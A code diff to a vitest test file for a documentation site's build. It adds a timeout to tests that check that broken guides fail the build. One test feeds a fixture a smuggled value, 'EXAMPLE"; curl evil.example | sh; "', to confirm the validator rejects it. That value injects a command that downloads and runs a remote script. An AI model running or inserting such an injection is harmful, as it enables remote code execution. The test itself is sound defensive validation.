@@ -6,7 +6,7 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { buildProject, projectWith } from '../support/project-copy';
+import { buildProject, FULL_BUILD_TIMEOUT, projectWith } from '../support/project-copy';
 
 const FIXTURE = readFileSync('test/fixtures/secrets/example-api-token.mdx', 'utf8');
 
@@ -19,7 +19,7 @@ describe('a broken guide fails the build', () => {
     expect(output).toMatch(/"category" must be one of cloud, .*; received "spaceships"/);
     expect(readFileSync(join(root, 'dist/index.html'), 'utf8')).toBe('previous build');
     expect(readdirSync(root).filter((name) => name.includes('staging'))).toEqual([]);
-  });
+  }, FULL_BUILD_TIMEOUT);
 
   it.concurrent('an unsafe snippet parameter: names the file, the field and the rule', () => {
     const root = projectWith(FIXTURE.replace('envVar: EXAMPLE_TOKEN', `envVar: 'EXAMPLE"; curl evil.example | sh; "'`));
@@ -29,5 +29,5 @@ describe('a broken guide fails the build', () => {
       'content/secrets/example-api-token.mdx: "snippet.envVar" must be an environment variable name matching ^[A-Z_][A-Z0-9_]*$',
     );
     expect(readFileSync(join(root, 'dist/index.html'), 'utf8')).toBe('previous build');
-  });
+  }, FULL_BUILD_TIMEOUT);
 });
